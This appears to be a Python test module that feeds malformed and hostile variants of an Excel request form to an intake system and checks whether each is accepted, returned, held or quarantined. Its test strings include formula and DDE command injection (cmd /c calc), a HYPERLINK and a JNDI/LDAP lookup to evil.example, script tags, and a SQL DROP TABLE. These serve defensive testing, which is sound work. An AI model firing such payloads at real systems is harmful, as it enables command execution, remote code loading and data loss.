"""Answers that are no answers: formulas, faults, figures beyond all bounds, text that would be something else."""

import re
from collections.abc import Callable, Mapping
from datetime import date

from cluster_sheets.base.date import in_words
from cluster_sheets.form.kind import Raw
from cluster_sheets.store.units import State
from tests.hostile.desk import REQUEST, Good
from tests.hostile.kind import Kind

Make = Callable[[Good], bytes]
_ODD = ("odd-characters",)
_TITLE = "EXAMPLE: Reading in pairs"
_BOOK, _RELATIONS, _TYPES = "xl/workbook.xml", "xl/_rels/workbook.xml.rels", "[Content_Types].xml"
_DAY = re.compile(rb"(?<!t=\"s\">)<v>(4[5-7]\d{3})</v>")
"""Days of our years, as Excel counts them."""
_LINKS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/externalLink"
_DDE = (
    '<externalLink xmlns="x"><ddeLink ddeService="cmd" ddeTopic="/c calc"><ddeItems><ddeItem name="a"/></ddeItems>'
    "</ddeLink></externalLink>"
)


def _title(text: str) -> Make:
    return lambda good: good.but(request_title=text)


def _need(text: str) -> Make:
    return lambda good: good.but(need=text)


def _amount(within: str, attributes: str = "") -> Make:
    return lambda good: good.with_cell("amount_requested", within, attributes)


def _answer(key: str, raw: Raw) -> Make:
    return lambda good: good.but(**{key: raw})


def _date(within: str, attributes: str = "") -> Make:
    """The day it starts, told in this XML, in the box's own format."""

    def make(good: Good) -> bytes:
        style = good.cell("start_date").partition(' s="')[2].partition('"')[0]
        return good.with_cell("start_date", within, f' s="{style}"{attributes}')

    return make


def _told(text: str) -> Make:
    """A title as it stands in XML, letter by letter."""
    return lambda good: good.with_cell("request_title", f"<is><t>{text}</t></is>", ' t="inlineStr"')


def _linked(target: str) -> Make:
    """A link to another workbook, its part under that name."""

    def make(good: Good) -> bytes:
        told = f'<Relationship Id="more" Type="{_LINKS}" Target="{target}"/></Relationships>'
        relations = good.text(_RELATIONS, "</Relationships>", told)
        return good.with_parts({_RELATIONS: relations, f"xl/{target}": _DDE.encode()})

    return make


def _state(state: str) -> Make:
    """One of the form's own sheets, hidden."""
    return lambda good: good.replaced(_BOOK, '<sheet name="2 Request"', f'<sheet state="{state}" name="2 Request"')


def _added(state: str) -> Make:
    """A sheet that is not the form's, put in."""

    def make(good: Good) -> bytes:
        kind = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet"
        sheet = '<worksheet><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>EXAMPLE</t></is></c></row></sheetData>'
        told = f'<Relationship Id="more" Type="{kind}" Target="worksheets/more.xml"/></Relationships>'
        listed = f'<sheet name="Workings" sheetId="90" r:id="more"{state}/></sheets>'
        return good.with_parts({
            "xl/worksheets/more.xml": f"{sheet}</worksheet>".encode(),
            _RELATIONS: good.text(_RELATIONS, "</Relationships>", told),
            _BOOK: good.text(_BOOK, "</sheets>", listed),
        })  # fmt: skip

    return make


def _merged(good: Good) -> bytes:
    """Boxes of three questions made one: two answers are gone."""
    _, first = good.place("request_title")
    number = int(first[1:])
    merged = f'<mergeCells count="1"><mergeCell ref="C{number}:C{number + 2}"/></mergeCells>'
    return good.replaced(REQUEST, "</sheetData>", f"</sheetData>{merged}")


def _unprotected(good: Good) -> bytes:
    told = good.parts[REQUEST].decode()
    start = told.find("<sheetProtection")
    return good.with_parts({REQUEST: (told[:start] + told[told.find("/>", start) + 2 :]).encode()})


def _since_1904(good: Good) -> bytes:
    """The days of a Mac's workbook, four years less; the same days to those who read it."""
    parts: dict[str, bytes | None] = {_BOOK: good.text(_BOOK, "<workbookPr ", '<workbookPr date1904="1" ')}
    for name, part in good.parts.items():
        if name.startswith("xl/worksheets/sheet"):
            parts[name] = _DAY.sub(lambda found: b"<v>%d</v>" % (int(found[1]) - 1462), part)
    return good.with_parts(parts)


def _start_in_words(good: Good) -> bytes:
    day = good.sample.meant.answers["start_date"]
    assert isinstance(day, date)
    return good.but(start_date=in_words(day))


def _shared(good: Good) -> bytes:
    """Every text of the form itself within its cell, none in the list of texts."""
    told = good.parts["xl/sharedStrings.xml"].decode()
    texts = [each.partition("</si>")[0] for each in told.split("<si>")[1:]]
    parts: dict[str, bytes | None] = {"xl/sharedStrings.xml": None}
    parts[_RELATIONS] = good.text(_RELATIONS, "sharedStrings.xml", "nothing.xml")
    for name, part in good.parts.items():
        if name.startswith("xl/worksheets/sheet"):
            sheet = part.decode()
            for number, text in enumerate(texts):
                sheet = sheet.replace(f' t="s"><v>{number}</v>', f' t="inlineStr"><is>{text}</is>')
            parts[name] = sheet.encode()
    return good.with_parts(parts)


def _rich(good: Good) -> bytes:
    runs = f"<r><t>{_TITLE[:12]}</t></r><r><rPr><b/></rPr><t>{_TITLE[12:]}</t></r>"
    return good.with_cell("request_title", f"<is>{runs}</is>", ' t="inlineStr"')


def _phonetic(good: Good) -> bytes:
    """Signs above the words that say how they are spoken: they are no part of the answer."""
    runs = f'<t>{_TITLE}</t><rPh sb="0" eb="2"><t>NOT A WORD OF IT</t></rPh><phoneticPr fontId="1"/>'
    return good.with_cell("request_title", f"<is>{runs}</is>", ' t="inlineStr"')


_TEXTS: Mapping[str, str] = {
    "an equals sign": '=HYPERLINK("http://evil.example","EXAMPLE reading")',
    "a command for another program": "=cmd|'/c calc'!A1 EXAMPLE",
    "a plus": "+44 EXAMPLE reading in pairs",
    "a minus": "-1+1 EXAMPLE reading in pairs",
    "an at": "@SUM(1+1) EXAMPLE reading",
    "a link": "https://evil.example/EXAMPLE-reading",
    "a tab in front": "\t=1+1 EXAMPLE reading in pairs",
    "an end of line in front": "\r=1+1 EXAMPLE reading in pairs",
    "a formula in braces": "{=SUM(A1:A9)} EXAMPLE",
    "marks of HTML": "<b>EXAMPLE</b> &amp; <script>alert(1)</script>",
    "marks of a query": "EXAMPLE'); DROP TABLE unit; --",
    "marks of a template": "EXAMPLE {typed} {{ 7*7 }} %s ${x}",
    "marks of a log": "EXAMPLE %n%n ${jndi:ldap://evil.example}",
    "pictures": "EXAMPLE: reading 📚 in pairs",
    "letters that look like others": "EXАMPLE: rеаding in pаirs",
    "letters with many marks": "EXAMPLE: re" + "a\u0301\u0301\u0301\u0301" * 4 + "ding",
    "letters of the far planes": "EXAMPLE: 𝓻𝓮𝓪𝓭𝓲𝓷𝓰 in pairs",
    "letters from right to left": "EXAMPLE: קריאה בזוגות",
    "words that look like a reference": "EXAMPLE: K7 and #REF! and NaN",
}
_UNSEEN: Mapping[str, str] = {
    "pictures that are joined": "EXAMPLE: reading 👩\u200d👩\u200d👧 in pairs",
    "what is no letter at all": "EXAMPLE: rea\ufffeding\uffff in pairs",
    "marks without width": "EX\u200bAM\u200cPLE: rea\u2060ding\ufeff in pairs",
    "marks that turn the order round": "EXAMPLE: \u202egnidaer\u202c in pairs",
    "a mark that joins": "EXAMPLE: rea\u00adding in pairs",
    "marks of a language tag": "EXAMPLE: reading\U000e0065\U000e006e in pairs",
}
_NOT_MONEY: Mapping[str, tuple[Make, tuple[str, ...]]] = {
    "not a number": (_amount("<v>NaN</v>"), ("not-money",)),
    "without end": (_amount("<v>INF</v>"), ("not-money",)),
    "in words: nan": (_answer("amount_requested", "nan"), ("not-money",)),
    "in words: without end": (_answer("amount_requested", "Infinity"), ("not-money",)),
    "beyond all bounds": (_amount("<v>1e308</v>"), ("not-money",)),
    "beyond what a number holds": (_amount("<v>1e999</v>"), ("not-money",)),
    "below nought beyond all bounds": (_amount("<v>-1e308</v>"), ("not-money",)),
    "next to nothing": (_amount("<v>5e-324</v>"), ("money-out-of-range",)),
    "below nought": (_amount("<v>-1250</v>"), ("money-out-of-range",)),
    "of nothing below nought": (_amount("<v>-0.0</v>"), ("money-out-of-range",)),
    "of three hundred figures": (_answer("amount_requested", "9" * 300), ("money-out-of-range",)),
    "in figures of another script": (_answer("amount_requested", "١٢٥٠"), ("not-money",)),
    "in wide figures": (_answer("amount_requested", "１２５０"), ("not-money",)),
    "in a power": (_answer("amount_requested", "1e3"), ("not-money",)),
    "in hexadecimal": (_answer("amount_requested", "0x4e2"), ("not-money",)),
    "with a line under it": (_answer("amount_requested", "1_250"), ("not-money",)),
    "that is true": (_amount("<v>1</v>", ' t="b"'), ("not-money",)),
    "that is a formula without a value": (_amount("<f>1000+250</f>"), ("formula-not-worked-out",)),
    "that is a formula with an empty value": (_amount("<f>1000+250</f><v></v>"), ("formula-not-worked-out",)),
    "that is a fault": (_amount("<v>#REF!</v>", ' t="e"'), ("cell-error",)),
    "that is a fault of a formula": (_amount("<f>1/0</f><v>#DIV/0!</v>", ' t="e"'), ("cell-error",)),
    "that is a fault nobody knows": (_amount("<v>#EXAMPLE!</v>", ' t="e"'), ("file-broken",)),
}
_DATES: Mapping[str, tuple[Make, tuple[str, ...]]] = {
    "before 1900": (_date("<v>-5</v>"), ("not-a-date",)),
    "of no day": (_date("<v>0</v>"), ("not-a-date",)),
    "that never was": (_date("<v>60</v>"), ("date-far-off",)),
    "of the year 9999": (_date("<v>2958465</v>"), ("date-far-off",)),
    "beyond the year 9999": (_date("<v>99999999</v>"), ("not-a-date",)),
    "beyond all bounds": (_date("<v>1e308</v>"), ("not-a-date",)),
    "that is not a number": (_date("<v>NaN</v>"), ("date-far-off",)),
    "below nought beyond all bounds": (_date("<v>-1e308</v>"), ("file-broken",)),
    "without end below nought": (_date("<v>-INF</v>"), ("file-broken",)),
    "in the form of ISO, beyond the calendar": (_date("<v>2027-13-45T00:00:00</v>", ' t="d"'), ("not-a-date",)),
    "with the month first": (_answer("start_date", "22nd of Feb, '27"), ("not-a-date",)),
    "before 1900, as text": (_answer("start_date", "01/01/1066"), ("date-far-off",)),
}
_LONG = ("narrative-too-long", "too-long")
KINDS = (
    *(Kind(f"text, {name}", _title(text), State.ACCEPTED) for name, text in _TEXTS.items()),
    *(Kind(f"text, {name}", _title(text), State.ACCEPTED, _ODD) for name, text in _UNSEEN.items()),
    *(Kind(f"amount, {name}", make, State.RETURNED, codes) for name, (make, codes) in _NOT_MONEY.items()),
    *(Kind(f"date, {name}", make, State.RETURNED, codes) for name, (make, codes) in _DATES.items()),
    Kind("text, 32,767 characters", _need("EXAMPLE " * 4095 + "EXAMPLE"), State.RETURNED, _LONG),
    Kind("text, 32,768 characters", _need("EXAMPLE " * 4096), State.RETURNED, _LONG),
    Kind("text, a million characters", _need("EXAMPLE " * 125_000), State.QUARANTINED, ("file-past-a-limit",)),
    Kind("text, nothing that can be seen", _title("\u200b\u2060\ufeff" * 9), State.RETURNED, ("blank",)),
    Kind("text, control characters in Excel's own way", _told("EXAMPLE_x0000__x0007_: reading"), State.ACCEPTED, _ODD),
    Kind("text, half a character in Excel's own way", _told("EXAMPLE_xD800_: reading"), State.ACCEPTED),
    Kind("text, control characters in XML's way", _told("EXAMPLE&#0;: reading&#7;"), State.RETURNED, ("file-broken",)),
    Kind("text, half a character in XML's way", _told("EXAMPLE&#xD800;: reading"), State.RETURNED, ("file-broken",)),
    Kind("text, an entity nobody knows", _told("EXAMPLE&evil;: reading"), State.RETURNED, ("file-broken",)),
    Kind("text, in several runs", _rich, State.ACCEPTED),
    Kind("text, with signs above it", _phonetic, State.ACCEPTED),
    Kind("text, as a formula of text", lambda good: good.with_cell(
        "request_title", f"<f>\"{_TITLE}\"</f><v>{_TITLE}</v>", ' t="str"'), State.HELD, ("formula-given",)),
    Kind("text, a fault where words are wanted", lambda good: good.with_cell(
        "request_title", "<v>#NAME?</v>", ' t="e"'), State.RETURNED, ("cell-error",)),
    Kind("text, no list of texts", _shared, State.ACCEPTED),
    Kind("date, of days since 1904", _since_1904, State.ACCEPTED),
    Kind("date, as text", _start_in_words,
         State.ACCEPTED),
    Kind("amount, by a formula with a value", lambda good: good.with_cell(
        "amount_requested", f"<f>A1</f>{good.cell('amount_requested').partition('>')[2].removesuffix('</c>')}"),
        State.HELD, ("formula-given",)),
    Kind("amount, by a formula of another workbook", lambda good: good.with_cell(
        "amount_requested",
        f"<f>[1]Sheet1!A1</f>{good.cell('amount_requested').partition('>')[2].removesuffix('</c>')}"),
        State.HELD, ("formula-given",)),
    Kind("link, to another workbook", _linked("externalLinks/externalLink1.xml"), State.HELD, ("external-links",)),
    Kind("link, its part under another name", _linked("worksheets/more.xml"), State.HELD, ("external-links",)),
    Kind("sheet, one of ours hidden", _state("hidden"), State.ACCEPTED),
    Kind("sheet, one of ours hidden well", _state("veryHidden"), State.ACCEPTED),
    Kind("sheet, one put in", _added(""), State.ACCEPTED, ("sheet-added",)),
    Kind("sheet, one put in and hidden", _added(' state="hidden"'), State.HELD, ("hidden-sheet-added",)),
    Kind("sheet, one put in and hidden well", _added(' state="veryHidden"'), State.HELD, ("hidden-sheet-added",)),
    Kind("sheet, boxes made one", _merged, State.ACCEPTED),
    Kind("sheet, the lock taken off", _unprotected, State.ACCEPTED),
    Kind("sheet, references by row and column", lambda good: good.replaced(
        _BOOK, "<calcPr ", '<calcPr refMode="R1C1" '), State.ACCEPTED),
)  # fmt: skip
